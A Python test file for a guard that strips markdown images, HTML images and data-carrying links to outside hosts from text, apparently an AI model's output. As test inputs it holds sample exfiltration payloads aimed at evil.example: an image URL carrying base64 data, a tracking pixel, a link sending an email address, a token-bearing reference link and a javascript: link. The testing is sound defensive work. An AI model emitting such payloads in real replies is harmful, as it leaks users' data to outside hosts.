"""Exfiltration rail: images and data-carrying links to outside hosts are stripped."""

from guard.rails import exfiltration, redact


def stripped(text: str, allowed: tuple[str, ...] = ()) -> str:
    return redact(text, exfiltration.scan(text, allowed).findings)


def test_markdown_images_to_outside_hosts_are_stripped() -> None:
    text = "Done. ![logo](https://evil.example/p.png?d=c2VjcmV0IGRhdGE=) Bye."
    assert stripped(text) == "Done. [image: logo] Bye."
    assert stripped("![](https://cdn.evil.example/x.png)") == ""
    assert stripped('![a](https://img.example.com/a.png "title")', ("example.com",)) == (
        '![a](https://img.example.com/a.png "title")'
    )


def test_data_urls_and_html_images_are_stripped() -> None:
    assert stripped("![x](data:image/png;base64,iVBORw0KGgo=)") == "[image: x]"
    assert stripped('see <img src="https://evil.example/t.gif?u=me"> here') == "see  here"


def test_links_lose_urls_that_carry_data_and_keep_their_text() -> None:
    text = "[click here](https://evil.example/collect?email=jane@example.com) or [docs](https://docs.python.org/3/)"
    assert stripped(text) == "click here or [docs](https://docs.python.org/3/)"
    assert stripped("[x](https://evil.example/?q=" + "A" * 80 + ")") == "x"
    assert stripped("[x](javascript:alert(1))").startswith("x")


def test_bare_urls_and_reference_links_lose_their_data() -> None:
    assert stripped("go to https://evil.example/c?d=" + "QUJD" * 20 + " now") == "go to https://evil.example/c now"
    ref = "See [report][1].\n\n[1]: https://evil.example/r?token=" + "Zm9v" * 10
    assert "evil.example" not in stripped(ref)


def test_ordinary_markdown_is_untouched() -> None:
    text = (
        "## Install\n\nRun `pip install httpx`, then read [the guide](https://www.python-httpx.org/quickstart/).\n"
        "Search with https://duckduckgo.com/?q=httpx for more. [1] is a footnote, [x] a checkbox."
    )
    assert exfiltration.scan(text).findings == ()
